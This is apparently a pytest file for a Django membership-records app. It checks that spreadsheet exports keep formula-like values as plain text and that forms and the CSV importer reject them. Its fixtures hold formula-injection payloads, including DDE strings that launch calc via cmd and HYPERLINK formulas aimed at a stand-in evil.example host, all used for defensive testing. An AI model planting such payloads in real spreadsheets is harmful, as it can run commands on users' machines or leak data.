"""Issue 14, item 1: a value that starts like a formula (=, +, -, @, tab, CR) is written into every
spreadsheet lianxin produces as plain text — never a live formula — and the fields where such input
has no business (姓名, 身份证号, phone numbers) refuse it, in forms and in the importer."""

import io
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from django.urls import reverse

from members.forms import ContactForm, MemberForm, TransferOutForm
from members.importing.service import import_file
from members.models import Gender, Member
from reports import xlsx
from reports.models import Submission
from tests.factories import CaseFactory, MemberFactory, next_id_number
from tracing.models import CaseStatus, LossReason

AS_OF = date(2026, 11, 1)
LINK = '=HYPERLINK("http://e.x/?"&G4,"点击")'
PHONE = '=CMD|"/c calc"!A1'
REMARK = "@SUM(1+1)*cmd|' /C calc'!A0"
ORG_NAME = '=HYPERLINK("http://evil.example/org","组织")'


def formula_cells(content):
    """(sheet, coordinate, value) of every cell a spreadsheet program would evaluate."""
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return [
        (ws.title, cell.coordinate, cell.value)
        for ws in wb.worksheets
        for row in ws.iter_rows()
        for cell in row
        if cell.data_type == "f" or (isinstance(cell.value, str) and cell.data_type != "s")
    ]


def text_values(content):
    wb = openpyxl.load_workbook(io.BytesIO(content))
    return {cell.value for ws in wb.worksheets for row in ws.iter_rows() for cell in row if cell.value}


@pytest.fixture
def planted(world, org, monkeypatch):
    """Two lost members in branch_a1 (renamed to a formula): one written styled, one by the fast
    plain-row path; both also on the 登记表 (unreachable after the committee's second search)."""
    monkeypatch.setattr(xlsx, "STYLED_ROWS", 1)
    branch = org("branch_a1")
    branch.name = ORG_NAME
    branch.save()
    user = world.users["branch_a1"]
    for suffix in ("甲", "乙"):
        # Values stored before this fix (or by any path other than the forms) still come out as text.
        member = MemberFactory(
            organization=branch,
            last_contact_on=date(2025, 1, 1),
            name=LINK + suffix,
            ethnicity="=1+1" + suffix,
            id_number="=SUM(1,2)" + suffix,
            phone=PHONE + suffix,
        )
        CaseFactory(
            member=member,
            opened_by=user,
            status=CaseStatus.UNREACHABLE,
            closed_on=date(2026, 9, 1),
            second_search_done_on=date(2026, 10, 1),
            reason=LossReason.OTHER,
            reason_remark=REMARK + suffix,
        )
    return branch


def _download(client, name, org_pk):
    response = client.get(reverse(f"reports:{name}"), {"org": org_pk, "as_of": AS_OF})
    assert response.status_code == 200, response.content[:300]
    return response.content


@pytest.mark.parametrize("export", ["roster_xlsx", "register_xlsx"])
def test_roster_and_register_carry_no_formula(world, org, client_for, planted, export):
    content = _download(client_for("committee_a"), export, org("committee_a").pk)
    assert formula_cells(content) == []
    values = text_values(content)
    for suffix in ("甲", "乙"):  # printed exactly as typed
        assert {
            LINK + suffix,
            "=1+1" + suffix,
            "=SUM(1,2)" + suffix,
            PHONE + suffix,
            REMARK + suffix,
        } <= values
    assert ORG_NAME in values


def test_statistics_export_carries_no_formula(world, org, client_for, planted):
    content = _download(client_for("committee_a"), "statistics_xlsx", org("committee_a").pk)
    assert formula_cells(content) == [] and ORG_NAME in text_values(content)


def test_submitted_roster_file_carries_no_formula(world, org, client_for, planted):
    client = client_for("branch_a1")
    client.post(f"{reverse('reports:submission_submit')}?org={planted.pk}&as_of={AS_OF}")
    submission = Submission.objects.get()
    content = client.get(reverse("reports:submission_file", args=[submission.pk])).content
    assert formula_cells(content) == [] and LINK + "甲" in text_values(content)


def test_rejected_rows_report_carries_no_formula(world, org, client_for, settings, tmp_path):
    settings.LIANXIN = {**settings.LIANXIN, "IMPORT_DIR": tmp_path / "imports"}
    header = "姓名,性别,民族,出生年月,入党时间,身份证号,联系电话,所在党支部,工作单位,居住地\n"
    payloads = [LINK, "+1+1", "-1+1", "@SUM(1)", "=1+1", "=2+2", "=3+3", "=4+4", "=5+5", "=6+6"]
    line = ",".join('"' + p.replace('"', '""') + '"' for p in payloads)
    upload = io.BytesIO((header + line + "\n").encode("utf-8"))
    upload.name = "花名册.csv"
    client = client_for("branch_a1")
    page = client.post(reverse("member_import:upload"), {"organization": org("branch_a1").pk, "file": upload})
    token = page.context["token"]
    content = client.get(reverse("member_import:rejected", args=[token])).content
    assert formula_cells(content) == []
    assert {LINK, "+1+1", "=3+3"} <= text_values(content)  # the 值 column keeps what was typed


# ---- refused where it has no business -------------------------------------------------------------


def member_data(**overrides):
    birth = date(1985, 3, 15)
    data = {
        "name": "张三",
        "gender": Gender.MALE,
        "ethnicity": "汉族",
        "birth_date": "1985-03-15",
        "joined_on": "2008-07-01",
        "membership_type": "full",
        "id_number": next_id_number(birth, Gender.MALE),
        "phone": "13912345678",
        "occupation": 8,
        "key_group": 0,
    }
    return data | overrides


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_member_form_refuses_a_name_or_phone_that_starts_like_a_formula(world, org, start):
    form = MemberForm(data=member_data(name=f"{start}1+1张", phone=f"{start}1+1"), branch=org("branch_a1"))
    assert not form.is_valid()
    assert "开头" in " ".join(form.errors["name"])
    assert "数字" in " ".join(form.errors["phone"])


@pytest.mark.parametrize("start", ["\t", "\r"])
def test_a_leading_tab_or_cr_never_reaches_a_stored_name(world, org, start):
    form = MemberForm(
        data=member_data(name=f"{start}=1+1", phone=f"{start}13912345678"), branch=org("branch_a1")
    )
    assert not form.is_valid() and "开头" in " ".join(form.errors["name"])  # the tab goes, the "=" stays
    form = MemberForm(data=member_data(name=f"{start}张三"), branch=org("branch_a1"))
    assert form.is_valid(), form.errors
    assert form.cleaned_data["name"] == "张三"


def test_member_form_phone_is_digits_with_an_optional_country_code(world, org):
    form = MemberForm(data=member_data(phone="+86 139-1234-5678"), branch=org("branch_a1"))
    assert form.is_valid(), form.errors
    assert form.cleaned_data["phone"] == "+8613912345678"
    for bad in ("139 1234 abcd", "+86+139", "13912345678#", "电话13912345678"):
        form = MemberForm(data=member_data(phone=bad), branch=org("branch_a1"))
        assert not form.is_valid() and "数字" in " ".join(form.errors["phone"])


def test_id_number_never_starts_like_a_formula(world, org):
    form = MemberForm(data=member_data(id_number="=61058119850315111"), branch=org("branch_a1"))
    assert not form.is_valid() and form.errors["id_number"]


def test_contact_and_transfer_forms_refuse_formula_names_and_phones(world):
    form = ContactForm(data={"kind": "backup", "name": "=HYPERLINK(1)", "relation": "父亲", "phone": "-1"})
    assert not form.is_valid() and {"name", "phone"} <= set(form.errors)
    assert "开头" in " ".join(form.errors["name"])
    form = TransferOutForm(data={"phone": "@13912345678"})
    assert not form.is_valid() and "phone" in form.errors


def _csv_import(world, tmp_path, row):
    path = tmp_path / "roster.csv"
    header = "姓名,性别,出生年月,入党时间,身份证号,联系电话,工作单位,居住地\n"
    path.write_text(header + ",".join('"' + v.replace('"', '""') + '"' for v in row) + "\n", encoding="utf-8")
    return import_file(
        path=path, filename="roster.csv", org=world.orgs["610581001001"], acting_user=world.users["branch_a1"]
    )


def test_csv_import_refuses_formula_names_and_phones(world, tmp_path):
    id_number = next_id_number(date(1985, 3, 15), Gender.MALE)
    report = _csv_import(world, tmp_path, [LINK, "男", "1985.03", "2008.07", id_number, "=1+1", "x", "y"])
    reasons = {e.column: e.reason for e in report.errors}
    assert "开头" in reasons["姓名"] and "数字" in reasons["联系电话"]
    assert not report.written and not Member.objects.filter(id_number=id_number).exists()


def test_csv_import_keeps_other_text_as_typed_and_normalises_phones(world, tmp_path):
    id_number = next_id_number(date(1985, 3, 15), Gender.MALE)
    report = _csv_import(
        world, tmp_path, ["张三", "男", "1985.03", "2008.07", id_number, "+86 139 1234 5678", "=1+1", "@家"]
    )
    assert report.ok, report.errors
    member = Member.objects.get(id_number=id_number)
    assert (member.phone, member.workplace, member.residence) == ("+8613912345678", "=1+1", "@家")


def test_no_module_makes_spreadsheet_cells_on_its_own():
    """Cells are made only by lianxin/spreadsheet.py, so no new export can forget to keep text as text."""
    root = Path(__file__).resolve().parents[2]
    offenders = [
        str(path.relative_to(root))
        for app in ("lianxin", "members", "tracing", "disposition", "reports")
        for path in (root / app).rglob("*.py")
        if path.name != "spreadsheet.py"
        and any(
            word in path.read_text(encoding="utf-8") for word in ("WriteOnlyCell", "ws.cell(", ".cell(row=")
        )
    ]
    assert offenders == []
